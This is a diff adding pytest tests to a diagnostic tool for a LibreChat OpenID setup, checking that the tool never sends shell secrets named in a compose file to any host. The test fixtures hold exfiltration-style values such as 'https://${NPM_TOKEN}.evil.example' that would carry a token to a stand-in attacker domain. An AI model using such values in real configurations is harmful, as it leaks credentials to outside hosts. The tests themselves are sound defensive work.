@@ -6,10 +6,11 @@ import json
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
 
-from tests.doctor.cases import env, subject
+from tests.doctor.cases import CLIENT_ID, CLIENT_SECRET, COMPOSE, env, subject
 from tests.providers import PUBLIC_URL, Demo, authority, demo, demo_server
 from tests.stand_ins.librechat import LibreChat, Tunnel, running
 from tests.tenant.state import DATABASE_NAME
@@ -108,6 +109,51 @@ def test_sends_the_same_spaces_as_librechat(demo: Demo, changed: dict[str, str])
 )
 def test_does_not_send_invalid_values_to_the_tenant(changed: dict[str, str]) -> None:
     assert settings_of(subject(env(**changed))) is None
+
+
+class NoNetwork:
+    """Only this machine may be asked, where no LibreChat runs."""
+
+    def request(self, method: str, url: str, **sent: Any) -> Response:
+        assert urlsplit(url).hostname == "localhost", (method, url, sent)
+        raise NetworkError(Trouble.REFUSED, url)
+
+
+@pytest.mark.parametrize(
+    "assignment",
+    [
+        "OPENID_ISSUER: https://${NPM_TOKEN}.evil.example",
+        "OPENID_ISSUER: https://evil.example/${NPM_TOKEN}",
+        "OPENID_CLIENT_ID: ${NPM_TOKEN:-none}",
+        "OPENID_CLIENT_SECRET: $NPM_TOKEN",
+        "OPENID_CLIENT_SECRET: ${MONGO_URI}",
+        "OPENID_AUDIENCE: ${INNER}",
+        "OPENID_SCOPE: openid ${NPM_TOKEN}",
+        "DOMAIN_SERVER: https://${NPM_TOKEN}.evil.example",
+    ],
+)
+def test_sends_no_variable_of_the_shell_that_a_compose_file_takes(assignment: str) -> None:
+    compose = f"{COMPOSE}    environment:\n      {assignment}\n"
+    secrets = {"NPM_TOKEN": "t0ken-of-mine", "MONGO_URI": "mongodb://me:t0ken-of-mine@db"}
+    checked = subject(env("INNER=${NPM_TOKEN}"), compose=compose, environ=secrets)
+    examination = examine(checked, NoNetwork(), Clock(), offline=False)
+    reported = {each.rule.id: each.detail for each in examination.findings}
+    assert "LA517" in reported
+    claims = {each.check: each.evidence for each in claims_of(examination)}
+    assert "outside the folder" in claims["tenant"]
+    assert "outside the folder" in claims["public_url"]
+    assert "t0ken-of-mine" not in "".join((*reported.values(), *map(str, claims.values())))
+
+
+def test_sends_what_the_shell_has_for_librechat() -> None:
+    compose = (
+        f"{COMPOSE}    environment:\n      OPENID_CLIENT_SECRET: ${{OPENID_CLIENT_SECRET}}\n"
+        "      OPENID_CLIENT_ID: ${AUTH0_CLIENT_ID}\n"
+    )
+    given = {"OPENID_CLIENT_SECRET": CLIENT_SECRET, "AUTH0_CLIENT_ID": CLIENT_ID}
+    settings = settings_of(subject(env(), compose=compose, environ=given))
+    assert settings is not None
+    assert settings.client_secret == CLIENT_SECRET
 
 
 class OtherProvider:
